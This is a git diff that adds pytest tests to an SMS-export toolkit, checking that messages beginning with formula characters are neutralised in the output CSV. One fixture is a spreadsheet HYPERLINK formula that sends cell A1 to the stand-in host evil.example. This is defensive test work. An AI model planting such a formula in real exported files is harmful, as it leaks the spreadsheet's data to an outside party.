@@ -9,6 +9,7 @@ import json
 import unicodedata
 from pathlib import Path
 
+import pytest
 
 from tests.conftest import EXAMPLE, NOTICE, PROCEDURE, write_unit
 from toolkit.smstext import cost, to_gsm7
@@ -319,3 +320,51 @@ def test_rebuild_gives_the_same_bytes(project: Path, run) -> None:
                        "--today", TODAY, "--force")
     assert status == 0
     assert (project / "outbox" / "sms" / "messages.csv").read_bytes() == first
+
+
+# --- formula injection ----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Bam vao day")'
+
+
+def test_an_sms_written_as_a_formula_is_no_formula_in_the_csv(project: Path, run) -> None:
+    write_unit(project, "khai-sinh", with_field(PROCEDURE, f"sms: '{FORMULA}'"))
+    texts = messages(run, project)
+    # The cell Excel would run as a formula is plain text, and it is exactly what is sent.
+    assert texts["khai-sinh"] == FORMULA[1:]
+    from toolkit.channels.sms import read_messages
+
+    assert dict(read_messages(project / "outbox") or [])["khai-sinh"] == FORMULA[1:]
+    raw = (project / "outbox" / "sms" / "messages.csv").read_text(encoding="utf-8")
+    assert "\nkhai-sinh,\"HYPERLINK(" in raw
+
+
+@pytest.mark.parametrize("sms, sent", [
+    ("+84 251 1022: goi de duoc huong dan", "84 251 1022: goi de duoc huong dan"),
+    ("-2+3 ngay", "2+3 ngay"), ("@UBND: lich tiep dan", "UBND: lich tiep dan"),
+    ("\t=1+1", "1+1"), (" = - @ Dang ky", "Dang ky"), ("＝1+1 ngay", "1+1 ngay"),
+    ("Phi: =0 dong, -50%", "Phi: =0 dong, -50%"),  # only the start of a cell matters
+])
+def test_no_message_starts_like_a_formula(project: Path, run, sms: str, sent: str) -> None:
+    write_unit(project, "khai-sinh", with_field(PROCEDURE, f"sms: {json.dumps(sms)}"))
+    assert messages(run, project)["khai-sinh"] == sent
+
+
+def test_an_sms_that_is_only_formula_signs_is_a_problem(project: Path, run) -> None:
+    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: '=+-@'"))
+    status, _, err = run("check", "--project", str(project))
+    assert status == 1 and "khai-sinh.md: sms: is empty once converted" in err
+
+
+def test_a_bulletin_teaser_never_starts_like_a_formula() -> None:
+    from datetime import date
+
+    from toolkit.channels.sms import SmsTemplate, teaser
+    from toolkit.jobs import Issue
+    from toolkit.periods import week_of
+    from toolkit.settings import load_settings
+
+    settings = load_settings(Path(__file__).resolve().parents[2])
+    template = SmsTemplate(patterns=("{title}",), bulletin=("=Ban tin so {number}: {link}",))
+    issue = Issue(week_of(date(2021, 2, 8)), "https://example.gov.vn/ban-tin.pdf", 1000)
+    assert teaser(issue, settings, template).startswith("Ban tin so ")
